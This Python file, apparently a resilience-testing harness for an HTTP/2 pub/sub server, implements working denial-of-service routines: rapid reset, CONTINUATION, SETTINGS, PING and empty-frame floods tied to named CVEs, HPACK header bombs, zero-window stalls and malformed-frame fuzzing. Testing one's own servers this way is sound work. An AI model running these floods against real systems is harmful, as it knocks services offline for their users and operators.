"""Frames of HTTP/2."""

import asyncio
import itertools
import struct

import readers
import wire


async def note_answers(attacker, connection, answered):
    """Reads to the end, counts the answers, and notes their streams with the kind of the frame."""
    while True:
        kind, _, stream, payload = await readers.http2_frame(connection.reader)
        if kind == 1:
            # 8 is `:status 200` of the static table of HPACK.
            attacker.count("answers 200" if payload[:1] == b"\x88" else "other answers")
            answered[stream] = kind
        elif kind == 3:
            attacker.count("streams that the server reset")
            answered[stream] = kind
        elif kind == 7:
            attacker.count("connections that the server ended")


async def note_some(attacker, connection, seconds):
    """Notes the answers of some seconds; the streams that were answered or reset."""
    answered = {}
    try:
        async with asyncio.timeout(seconds):
            await note_answers(attacker, connection, answered)
    except asyncio.TimeoutError:
        pass
    return answered


async def many_streams(attacker):
    """Opens streams and held polls, up to the limit of the connection and beyond it."""
    connection = await attacker.http2()
    polls, answered = set(), {}
    noting = asyncio.ensure_future(note_answers(attacker, connection, answered))
    try:
        for stream in range(1, 800, 2):
            # No client publishes to news.quiet, so a poll of it is held.
            path = attacker.random.choice(["/topics/news.1?transport=sse", "/topics/news.2?transport=ndjson",
                                           "/topics/news.quiet?since=0s&wait=60"])
            await connection.flood(wire.headers(stream, path))
            attacker.count("streams")
            if "wait" in path:
                polls.add(stream)
            # The server holds a poll if it has answered a stream that came later.
            if stream == 99:
                await asyncio.sleep(1)
                newest = max((stream for stream, kind in answered.items() if kind == 1), default=0)
                attacker.count("polls held", sum(stream < newest for stream in polls - answered.keys()))
        await asyncio.sleep(20)
    finally:
        noting.cancel()


async def rapid_resets(attacker):
    """Opens streams and resets each at once (CVE-2023-44487)."""
    await reset(attacker, await attacker.http2())


async def rapid_resets_over_tls(attacker):
    """Does the same where browsers speak HTTP/2."""
    await reset(attacker, await attacker.http2(is_tls=True))


async def reset(attacker, connection):
    reading = asyncio.ensure_future(connection.discard())
    try:
        for first in itertools.count(1, 200):
            await connection.flood(b"".join(
                wire.headers(stream, "/topics/news.1?transport=sse") + wire.frame(3, 0, stream, struct.pack(">I", 8))
                for stream in range(first, first + 200, 2)))
            attacker.count("streams reset", 100)
    finally:
        reading.cancel()


async def continuation_flood(attacker):
    """Begins a head, and goes on with CONTINUATION frames without an end (CVE-2024-27316)."""
    connection = await attacker.http2()
    connection.write(wire.frame(1, 0, 1, wire.head("/topics/news.1")))
    pieces = [wire.frame(9, 0, 1, wire.fields([("x", "a" * 1000)])), wire.frame(9, 0, 1)]
    while True:
        await connection.flood(attacker.random.choice(pieces) * 20)
        attacker.count("CONTINUATION frames", 20)


async def settings_flood(attacker):
    """Sends SETTINGS without an end, and reads no acknowledgement (CVE-2019-9515)."""
    connection = await attacker.http2()
    while True:
        await connection.flood(wire.settings([(1, 0), (4, attacker.random.randrange(1 << 31)), (1, 4096)]) * 100)
        attacker.count("SETTINGS frames", 100)


async def ping_flood(attacker):
    """Sends PING without an end, and reads no answer (CVE-2019-9512)."""
    connection = await attacker.http2()
    while True:
        await connection.flood(wire.frame(6, 0, 0, bytes(8)) * 200)
        attacker.count("PING frames", 200)


async def empty_frames(attacker):
    """Sends DATA frames without data, WINDOW_UPDATE and PRIORITY frames (CVE-2019-9518)."""
    connection = await attacker.http2()
    connection.write(wire.headers(1, "/publish", "POST", [
        ("content-type", "application/x-ndjson"), ("authorization", f"Bearer {attacker.user()}")], is_end=False))
    # A refused request has no body to send.
    if await note_some(attacker, connection, 1):
        return
    attacker.count("bodies held")
    frames = [wire.frame(0, 0, 1), wire.frame(8, 0, 1, struct.pack(">I", 1)),
              wire.frame(2, 0, 3, struct.pack(">IB", 1, 9)), wire.frame(0, 8, 1, b"\x05" + bytes(5))]
    while True:
        await connection.flood(attacker.random.choice(frames) * 100)
        attacker.count("empty frames", 100)


async def tiny_windows(attacker):
    """Asks for long answers and refusals, with a window of one byte or none, and takes none of them."""
    connection = await attacker.http2([(4, attacker.random.choice([0, 1]))])
    for stream in range(1, 500, 2):
        path = attacker.random.choice(["/topics/news.1?after=0&wait=0&limit=1000", "/topics/rooms.1", "/nowhere",
                                       "/events?topic=news.*&after=0&transport=ndjson", "/openapi.json"])
        await connection.flood(wire.headers(stream, path))
        attacker.count("requests")
    # The heads of the answers need no window, but nothing else comes.
    await note_some(attacker, connection, 40)


async def header_bombs(attacker):
    """Repeats one field of the table of HPACK, so that a byte becomes many."""
    connection = await attacker.http2()
    entry = b"\x40\x01a\x7f\xa1\x1e" + b"b" * 4000
    # 15 of them are just below the limit of a head, and the server ends the connection after 90.
    for stream in range(1, 400, 2):
        size = attacker.random.choice([15] * 98 + [90, 4000])
        block = wire.head("/topics/news.1?since=0s&wait=60") + entry + b"\xbe" * size
        await connection.flood(wire.frame(1, 5, stream, block))
        attacker.count("heads")
        attacker.count("bytes unpacked", size * 4000)
    await note_some(attacker, connection, 5)


async def broken_frames(attacker):
    """Sends frames that no client sends."""
    connection = await attacker.http2()
    for _ in range(50):
        await connection.flood(wire.frame(
            attacker.random.randrange(12), attacker.random.randrange(256), attacker.random.randrange(5),
            attacker.random.randbytes(attacker.random.choice([0, 1, 8, 300]))))
        attacker.count("frames")
    await connection.discard_some(2)
